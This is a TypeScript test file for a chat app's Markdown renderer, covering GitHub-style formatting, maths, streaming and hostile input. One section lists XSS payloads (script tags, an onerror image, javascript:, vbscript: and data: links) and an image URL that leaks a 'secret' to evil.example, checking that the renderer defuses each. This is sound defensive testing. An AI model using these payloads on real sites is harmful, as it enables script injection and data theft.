import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { createBlockSplitter } from "../../src/products/chat/markdown/blocks.ts";
import { Markdown } from "../../src/products/chat/markdown/markdown.tsx";

/** What a text is drawn as, without the frame around it. */
const drawn = (text: string) =>
  renderToStaticMarkup(<Markdown text={text} />).replace(/^<div class="markdown">([\s\S]*)<\/div>$/, "$1");

describe("Markdown is drawn as GitHub would", () => {
  it.each([
    [
      "**bold** *italic* ~~struck~~ `code`",
      "<p><strong>bold</strong> <em>italic</em> <del>struck</del> <code>code</code></p>",
    ],
    ["about ~5 to ~6", "<p>about ~5 to ~6</p>"],
    ["one\ntwo  \nthree\\\nfour", "<p>one\ntwo<br/>three<br/>four</p>"],
    ["a &amp; b &copy; &#169; &#xA9; &nope; \\*", "<p>a &amp; b © © © &amp;nope; *</p>"],
    ["`&amp;`", "<p><code>&amp;amp;</code></p>"],
    ["- a\n  - b\n- c", "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>"],
    ["3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'],
    ["> quoted\n> more", "<blockquote><p>quoted\nmore</p></blockquote>"],
    ["one\n\n---\n\ntwo", "<p>one</p><hr/><p>two</p>"],
    [
      "a[^1]\n\n[^1]: A *note*.",
      '<p>a<sup>1</sup></p><aside class="footnote"><sup>1</sup><p>A <em>note</em>.</p></aside>',
    ],
  ])("%j", (text, html) => {
    expect(drawn(text)).toBe(html);
  });

  it("draws the first heading below that of the page, and deeper ones relative to it", () => {
    expect(drawn("### One\n\n#### Two\n\n# Three")).toBe(
      '<h2 class="heading-3">One</h2><h3 class="heading-4">Two</h3><h2 class="heading-1">Three</h2>',
    );
  });

  it("draws a table with its alignment, and a list of tasks", () => {
    const table = drawn("| a | b |\n| :- | -: |\n| c\\|d | `x` |");
    expect(table).toContain('<th style="text-align:left">a</th><th style="text-align:right">b</th>');
    expect(table).toContain('<td style="text-align:left">c|d</td><td style="text-align:right"><code>x</code></td>');
    expect(drawn("- [x] done\n- [ ] open")).toMatch(
      /type="checkbox"[^>]*aria-label="Done"[\s\S]*aria-label="Not done"/,
    );
  });

  it("finds the address of a reference that comes later", () => {
    expect(drawn("See [this].\n\nMore.\n\n[this]: https://example.org 'The title'")).toContain(
      '<a href="https://example.org" title="The title" target="_blank" rel="noopener noreferrer nofollow ugc">this</a>',
    );
  });
});

describe("formulas", () => {
  // The formula itself is drawn by KaTeX, which comes later; until then its TeX stands there.
  it.each([
    ["so $x^2$ is", "<p>so <span>x^2</span> is</p>"],
    ["so \\(x^2\\) is", "<p>so <span>x^2</span> is</p>"],
    ["so \\[x^2\\] is", "<p>so <span>x^2</span> is</p>"],
    ["Text:\n$$\nx_1 + y_1\n$$\nmore", "<p>Text:</p><span>x_1 + y_1</span><p>more</p>"],
    ["\\[\nx *a* y\n\\]", "<span>x *a* y</span>"],
    ["1. one\n\n   $$\n   x\n   $$", "<ol><li><p>one</p><span>x</span></li></ol>"],
    ["$$\nx +\n\ny", "<span>x +\n\ny</span>"],
    ["It costs $5, or $10 with US$3 off.", "<p>It costs $5, or $10 with US$3 off.</p>"],
    ["`$a$` and $`", "<p><code>$a$</code> and $`</p>"],
    ["\\$x\\$", "<p>$x$</p>"],
  ])("%j", (text, html) => {
    expect(drawn(text)).toBe(html);
  });
});

describe("a text that was made to do harm", () => {
  it.each([
    ["<script>alert(1)</script>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"],
    ["a <img src=x onerror=alert(1)> b", "<p>a &lt;img src=x onerror=alert(1)&gt; b</p>"],
    ["[x](javascript:alert(1))", "<p><span>x</span></p>"],
    ["[x](&#106;avascript:alert(1))", "<p><span>x</span></p>"],
    ["[x](JaVaScRiPt:alert(1))", "<p><span>x</span></p>"],
    [
      "[x](vbscript:a) [y](data:text/html,a) [z](//evil.example)",
      "<p><span>x</span> <span>y</span> <span>z</span></p>",
    ],
    ["<javascript:alert(1)>", "<p><span>javascript:alert(1)</span></p>"],
  ])("is harmless: %j", (text, html) => {
    expect(drawn(text)).toBe(html);
  });

  it("loads no picture from elsewhere", () => {
    expect(drawn("![who reads](https://evil.example/?q=secret)")).not.toMatch(/<img|evil/);
    expect(drawn("![ours](/api/files/1)")).toContain('<img src="/api/files/1" alt="ours"');
  });

  it.each([
    ["quotes in quotes", ">".repeat(20_000)],
    ["brackets", "[".repeat(100_000)],
    ["open emphasis", "*a ".repeat(20_000)],
    ["pictures of pictures", "![".repeat(30_000)],
    ["dollars", "$$".repeat(30_000)],
    ["open maths", "\\[".repeat(30_000)],
    ["single dollars", "$a ".repeat(30_000)],
    ["backslashes", "\\(".repeat(30_000)],
    ["footnotes", "[^1]: a\n".repeat(10_000)],
    ["footnotes in one another", "[^1]:".repeat(20_000)],
    ["open footnotes", "[^".repeat(40_000)],
    ["ampersands", "&a".repeat(50_000)],
  ])("is drawn with all its characters in the end: %s", (_, text) => {
    expect(drawn(text).length).toBeGreaterThan(text.length / 2);
  });
});

describe("a text that grows", () => {
  const text =
    "# A\n\nb *c*\n\n```ts\nconst x = 1;\n\nlet y;\n```\n\n- d\n- e\n\n$$\nf\n$$\n\n| g |\n| - |\n| h |\n\nEnd [x].\n\n[x]: https://a.example\n";

  it("is at every length the same as if it had come at once", () => {
    const split = createBlockSplitter();
    for (let length = 1; length <= text.length; length += 1) {
      expect(split(text.slice(0, length))).toEqual(createBlockSplitter()(text.slice(0, length)));
    }
  });

  it("keeps the blocks that did not change, so that they are not drawn again", () => {
    const split = createBlockSplitter();
    const before = split("One.\n\nTwo.\n\nThree.\n\nFo");
    const after = split("One.\n\nTwo.\n\nThree.\n\nFour");
    expect(after.slice(0, 3).map((block, index) => block === before[index])).toEqual([true, true, true]);
  });
});
